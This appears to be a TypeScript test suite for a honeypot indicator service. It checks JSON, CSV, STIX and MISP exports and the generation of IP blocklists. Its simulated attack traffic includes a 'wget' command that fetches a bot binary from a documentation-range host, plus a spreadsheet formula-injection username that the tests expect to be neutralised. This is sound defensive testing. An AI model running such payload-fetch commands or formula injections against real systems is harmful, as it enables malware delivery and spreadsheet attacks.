import { describe, expect, test } from "bun:test";
import { addressClass, addressKey, mostActive } from "../../src/modules/indicators/addresses";
import { BIG_ID, EventStreamClient, LineClient, getJson, settled, startTestCore, type TestCore } from "../helpers";

async function ingest(core: TestCore, lines: object[]): Promise<void> {
  using c = await EventStreamClient.connect(core.ports.event, { acks: true });
  c.send(lines.map((l) => JSON.stringify(l)));
  await c.ack(lines.length);
  await settled(core);
}

const SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const URL_FETCHED = "http://198.51.100.4/bins/x86?it's=1";
const login = (src_ip: string, username: string, password: string, eventid = "cowrie.login.failed") => ({ eventid, src_ip, username, password, session: "s1" });

/** Cowrie-shaped traffic: a busy bot from 8.8.8.8 that downloads a file, one login from Chinanet, and a hostile username. */
async function attack(core: TestCore) {
  await ingest(core, [
    login("8.8.8.8", "root", "123456"),
    login("8.8.8.8", "root", "123456"),
    login("8.8.8.8", "admin", "admin", "cowrie.login.success"),
    { eventid: "cowrie.command.input", src_ip: "8.8.8.8", input: `wget ${URL_FETCHED}` },
    { eventid: "cowrie.session.file_download", src_ip: "8.8.8.8", url: URL_FETCHED, shasum: SHA, outfile: `var/lib/cowrie/downloads/${SHA}` },
    login("218.92.0.1", "ubnt", "ubnt"),
    login("203.0.113.7", "=HYPERLINK(\"http://x\")", "p,w"),
  ]);
}

const UUID = "[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}";
const RFC3339 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/;

describe("indicators", () => {
  test("JSON: addresses with first and last seen, counts, country and ASN, credentials, URLs and hashes", async () => {
    await using core = await startTestCore();
    await attack(core);
    const res = await getJson(`${core.api}/api/v1/indicators`);
    expect(res.status).toBe(200);
    const hour = Math.floor(Date.now() / 3_600_000) * 3_600_000;
    expect(res.body.window).toBe("7d");
    expect(res.body.geo_attribution.country).toContain("DB-IP");
    const byIp = Object.fromEntries(res.body.indicators.map((i: any) => [i.ip, i]));
    expect(res.body.indicators.map((i: any) => i.ip)).toEqual(["8.8.8.8", "203.0.113.7", "218.92.0.1"]);
    expect(byIp["8.8.8.8"]).toEqual({
      ip: "8.8.8.8",
      first_seen: new Date(hour).toISOString(),
      last_seen: expect.stringMatching(RFC3339),
      count: 5,
      country: "US",
      asn: 15169,
      as_org: expect.stringMatching(/Google/),
      credentials: [
        { username: "root", password: "123456", count: 2 },
        { username: "admin", password: "admin", count: 1 },
      ],
      urls: [URL_FETCHED],
      sha256: [SHA],
    });
    expect(byIp["218.92.0.1"]).toMatchObject({ count: 1, country: "CN", asn: 4134, credentials: [{ username: "ubnt", password: "ubnt", count: 1 }], urls: [], sha256: [] });
    const min2 = await getJson(`${core.api}/api/v1/indicators?min_count=2`);
    expect(min2.body.indicators.map((i: any) => i.ip)).toEqual(["8.8.8.8"]);
    const bad = await getJson(`${core.api}/api/v1/indicators?format=xml`);
    expect(bad.status).toBe(400);
    expect(bad.body.error.code).toBe("bad_request");
  });

  test("CSV by Accept: one row per address, quoted per RFC 4180, formulas defused", async () => {
    await using core = await startTestCore();
    await attack(core);
    const res = await fetch(`${core.api}/api/v1/indicators`, { headers: { accept: "text/csv" } });
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const rows = (await res.text()).split("\r\n");
    expect(rows[0]).toBe("ip,first_seen,last_seen,count,country,asn,as_org,credentials,urls,sha256");
    expect(rows[1]).toStartWith("8.8.8.8,");
    expect(rows[1]).toEndWith(`,5,US,15169,Google LLC,root:123456 admin:admin,${URL_FETCHED},${SHA}`);
    // The hostile username: apostrophe first (no formula), quotes doubled, the comma inside quotes.
    expect(rows[2]).toContain(`,"'=HYPERLINK(""http://x""):p,w",`);
    expect(rows.at(-1)).toBe("");
  });

  test("STIX 2.1 bundle: ids, spec_version, indicator patterns, stable ids across exports", async () => {
    await using core = await startTestCore();
    await attack(core);
    const get = async () => {
      const res = await fetch(`${core.api}/api/v1/indicators?format=stix`);
      expect(res.headers.get("content-type")).toBe("application/stix+json;version=2.1");
      return (await res.json()) as any;
    };
    const bundle = await get();
    expect(bundle.type).toBe("bundle");
    expect(bundle.id).toMatch(new RegExp(`^bundle--${UUID}$`));
    expect(bundle.spec_version).toBeUndefined(); // a 2.1 bundle has none (it was 2.0's)
    const [identity, ...indicators] = bundle.objects;
    expect(identity).toMatchObject({ type: "identity", spec_version: "2.1", name: "HoneyBee Core", identity_class: "system" });
    expect(identity.id).toMatch(new RegExp(`^identity--${UUID}$`));
    for (const o of indicators) {
      // The properties STIX 2.1 requires of an indicator, in their formats.
      expect(o.type).toBe("indicator");
      expect(o.spec_version).toBe("2.1");
      expect(o.id).toMatch(new RegExp(`^indicator--${UUID}$`));
      for (const k of ["created", "modified", "valid_from"]) expect(o[k]).toMatch(RFC3339);
      expect(o.pattern_type).toBe("stix");
      expect(o.created_by_ref).toBe(identity.id);
      expect(o.indicator_types).toEqual(["malicious-activity"]);
    }
    expect(indicators.map((o: any) => o.pattern)).toEqual([
      "[ipv4-addr:value = '8.8.8.8']",
      "[url:value = 'http://198.51.100.4/bins/x86?it\\'s=1']",
      `[file:hashes.'SHA-256' = '${SHA}']`,
      "[ipv4-addr:value = '203.0.113.7']",
      "[ipv4-addr:value = '218.92.0.1']",
    ]);
    expect(new Set(indicators.map((o: any) => o.id)).size).toBe(indicators.length);
    const again = await get();
    expect(again.objects.map((o: any) => o.id)).toEqual(bundle.objects.map((o: any) => o.id));
    expect(again.id).not.toBe(bundle.id);
  });

  test("MISP event: ip-src, url and sha256 attributes with the data's credit", async () => {
    await using core = await startTestCore();
    await attack(core);
    const res = await getJson(`${core.api}/api/v1/indicators?format=misp`);
    expect(res.status).toBe(200);
    const e = res.body.Event;
    expect(e).toMatchObject({ threat_level_id: "3", analysis: "2", distribution: "0", published: false });
    expect(e.uuid).toMatch(new RegExp(`^${UUID}$`));
    expect(e.date).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(e.info).toContain("HoneyBee Core");
    expect(e.Attribute.map((a: any) => [a.type, a.category, a.value, a.to_ids])).toEqual([
      ["ip-src", "Network activity", "8.8.8.8", true],
      ["url", "Payload delivery", URL_FETCHED, true],
      ["sha256", "Payload delivery", SHA, true],
      ["ip-src", "Network activity", "203.0.113.7", true],
      ["ip-src", "Network activity", "218.92.0.1", true],
      ["comment", "Other", expect.stringContaining("DB-IP"), false],
    ]);
    for (const a of e.Attribute) expect(a.uuid).toMatch(new RegExp(`^${UUID}$`));
  });

  test("blocklist: plain text, one address per line, window and minimum count", async () => {
    await using core = await startTestCore();
    await attack(core);
    const all = await fetch(`${core.api}/api/v1/blocklist?include_private=true`);
    expect(all.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(await all.text()).toBe("203.0.113.7\n218.92.0.1\n8.8.8.8\n");
    expect(await (await fetch(`${core.api}/api/v1/blocklist?window=1h&min_count=3`)).text()).toBe("8.8.8.8\n");
    expect(await (await fetch(`${core.api}/api/v1/blocklist?min_count=100`)).text()).toBe("");
    expect(await (await fetch(`${core.api}/api/v1/blocklist?include_private=true&limit=1`)).text()).toBe("8.8.8.8\n");
    const bad = await getJson(`${core.api}/api/v1/blocklist?window=forever`);
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toContain("window must be");
  });

  test("blocklist: no loopback, private, link-local, documentation or multicast address unless asked, never a node's own or text that is no address", async () => {
    await using core = await startTestCore();
    const node = await LineClient.connect(core.ports.node);
    node.send("NodeRegistration", { node_id: BIG_ID, node_name: "sensor-1", address: "45.33.32.156", port: 0, node_type: "Full" });
    expect((await node.nextKind("RegistrationAck")).accepted).toBe(true);
    const special = ["127.0.0.1", "::1", "10.1.2.3", "172.16.5.4", "172.31.255.255", "192.168.1.1", "100.64.0.1", "169.254.1.1", "fe80::1", "fd00::1", "0.1.2.3", "192.0.2.1", "198.51.100.1", "203.0.113.9", "2001:db8::1", "224.0.0.1", "ff02::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1"];
    const attackers = ["1.1.1.1", "172.32.0.1", "100.128.0.1", "2606:4700:4700::1111", "::ffff:8.8.4.4"];
    await ingest(core, [...special, ...attackers, "45.33.32.156", "not-an-address"].map((ip) => login(ip, "root", "root")));
    const text = async (q: string) => (await fetch(`${core.api}/api/v1/blocklist${q}`)).text();
    expect(await text("")).toBe(`${[...attackers].sort().join("\n")}\n`);
    // The node's connection comes from 127.0.0.1: that is one of its addresses too.
    const nodes = ["127.0.0.1", "::ffff:127.0.0.1"];
    expect(await text("?include_private=true")).toBe(`${[...special.filter((ip) => !nodes.includes(ip)), ...attackers].sort().join("\n")}\n`);
    expect((await getJson(`${core.api}/api/v1/blocklist?include_private=yes`)).status).toBe(400);
    node.close();
  });
});

describe("blocklist addresses", () => {
  test("special ranges, their IPv4-mapped forms, and what is no address", () => {
    const cases: [string, ReturnType<typeof addressClass>][] = [
      ["8.8.8.8", "public"],
      ["172.15.255.255", "public"],
      ["172.16.0.0", "special"],
      ["100.63.255.255", "public"],
      ["100.127.255.255", "special"],
      ["198.51.99.1", "public"],
      ["223.255.255.255", "public"],
      ["239.1.1.1", "special"],
      ["255.255.255.255", "special"],
      ["::", "special"],
      ["::ffff:7f00:1", "special"],
      ["::FFFF:192.168.0.1", "special"],
      ["::ffff:1.1.1.1", "public"],
      ["FE80::1%eth0", "special"],
      ["fc12::1", "special"],
      ["2001:db8:ffff::1", "special"],
      ["2001:db9::1", "public"],
      ["2a00:1450::1", "public"],
      ["localhost", "invalid"],
      ["1.2.3.4 ", "invalid"],
      ["01.2.3.4", "invalid"],
      ["", "invalid"],
    ];
    expect(cases.map(([ip]) => addressClass(ip))).toEqual(cases.map(([, c]) => c));
  });

  test("addresses compare in one form", () => {
    expect(["::FFFF:45.33.32.156", "::ffff:2d21:209c", "2001:0DB8:0::1", "fe80::1%eth0", "45.33.32.156"].map(addressKey)).toEqual(["45.33.32.156", "45.33.32.156", "2001:db8::1", "fe80::1", "45.33.32.156"]);
  });

  test("the most active addresses kept, read again when too many were left out", async () => {
    const all = Array.from({ length: 1000 }, (_, i) => (i < 900 ? `10.0.${i >> 8}.${i & 255}` : `1.0.0.${i - 900}`));
    const reads: number[] = [];
    const read = (n: number) => (reads.push(n), all.slice(0, n));
    expect(await mostActive(read, 3, (ip) => !ip.startsWith("10."))).toEqual(["1.0.0.0", "1.0.0.1", "1.0.0.2"]);
    expect(reads).toEqual([67, 268, 1072]);
    expect(await mostActive(() => all.slice(0, 5), 10, () => true)).toHaveLength(5);
  });
});
